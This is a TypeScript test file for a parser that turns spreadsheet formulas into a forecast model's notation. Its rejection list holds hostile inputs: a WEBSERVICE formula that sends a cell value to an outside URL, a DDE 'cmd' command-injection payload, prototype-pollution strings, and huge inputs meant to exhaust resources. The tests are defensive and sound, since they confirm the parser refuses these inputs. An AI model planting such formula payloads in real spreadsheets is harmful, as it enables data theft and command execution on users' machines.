import { describe, expect, test } from 'vitest';
import { formulaFromSpreadsheet, movedFormula } from './index.ts';
import { namesOf } from './named-table.fixture.ts';

const names = namesOf(['revenue', 'margin', 'capexChange']);
const inYear2027 = (text: string) => formulaFromSpreadsheet(text, { year: 2027, terminalYear: 2031 }, names);

describe('a formula typed in a spreadsheet', () => {
  test.each([
    ['H3*1.05+0.5%', '=margin[-1] * 1.05 + 0.5%'],
    ['AVERAGE(B3:E3)', '=AVERAGE(margin[2022:2025])'],
    ['average( $B$3:$E$3 , G3 )', '=AVERAGE(margin[2022:2025]; averages.margin)'],
    ['Financials!E3', '=margin[2025]'],
    ["'Financials'!$H3", '=margin[2026]'],
    ['MAX(D3:D3)', '=MAX(margin[2024:2024])'],
    ['SUM(D3:H3)', '=SUM(margin[2024:2025]; ltm.margin; averages.margin; margin[-1:-1])'],
    ['IF(H2>400000,10%,-H3)', '=IF(revenue[-1] > 400000; 10%; -margin[-1])'],
    ['((E2/B2)^(1/3)-1)', '=(revenue[2025] / revenue[2022])^(1 / 3) - 1'],
    ['2^3^2', '=(2^3)^2'],
    ['-2^2', '=-2^2'],
    ['1-(2-3)', '=1 - (2 - 3)'],
    ['1E-3+.5', '=0.001 + 0.5'],
    ['ROUND(M3,2)', '=ROUND(margin[4]; 2)'],
  ])('%s is %s', (text, ours) => {
    expect(inYear2027(text)).toBe(ours);
  });

  test('follows its cell where a spreadsheet shares it among neighbours', () => {
    expect(movedFormula('H3+$E3*E$3+\'A1\'!B2&"C3"+LOG10(D4)', { column: 1, row: 2 })).toBe(
      'I5+$E5*F$3+\'A1\'!C4&"C3"+LOG10(E6)',
    );
    expect(movedFormula('A1', { column: -1, row: 0 })).toBe('#REF!');
  });

  test.each([
    'WEBSERVICE("https://example.com/?q="&E2)',
    'HYPERLINK("https://example.com","click")',
    "cmd|'/c calc'!A0",
    '[1]Sheet1!A1',
    "'[other.xlsx]Financials'!A1",
    "'https://example.com/[book.xlsx]Sheet'!B2",
    "'Fair value'!B4",
    'INDIRECT("E3")',
    '_xlfn.STDEV.S(B3:E3)',
    'CAGR(B3:E3)',
    'E3&"%"',
    '"0.1"',
    'TRUE',
    'A1',
    'ZZZ9999999',
    'B2:C4',
    'SUM(B2:C4)',
    'SUM(B3:Financials!E3)',
    'SUM(B:B)',
    'constructor(1)',
    '__proto__',
    'E3 E3',
    '(((E3)',
    'E3+',
    '=E3',
    '',
    '{1,2,3}',
    '#REF!+1',
    'margin',
  ])('%s is no formula of a forecast', (text) => {
    expect(inYear2027(text)).toBeNull();
  });

  test('is given up where it is too deep or too long, at once', () => {
    for (const text of [
      `${'('.repeat(100_000)}1${')'.repeat(100_000)}`,
      `${'-'.repeat(100_000)}1`,
      `1${'+1'.repeat(500_000)}`,
      `1${'%'.repeat(100_000)}`,
      ' '.repeat(1_000_000),
      "'".repeat(100_000),
      `${'a'.repeat(1_000_000)}(`,
      '1'.repeat(1_000_000),
    ]) {
      expect(inYear2027(text)).toBeNull();
    }
  });
});
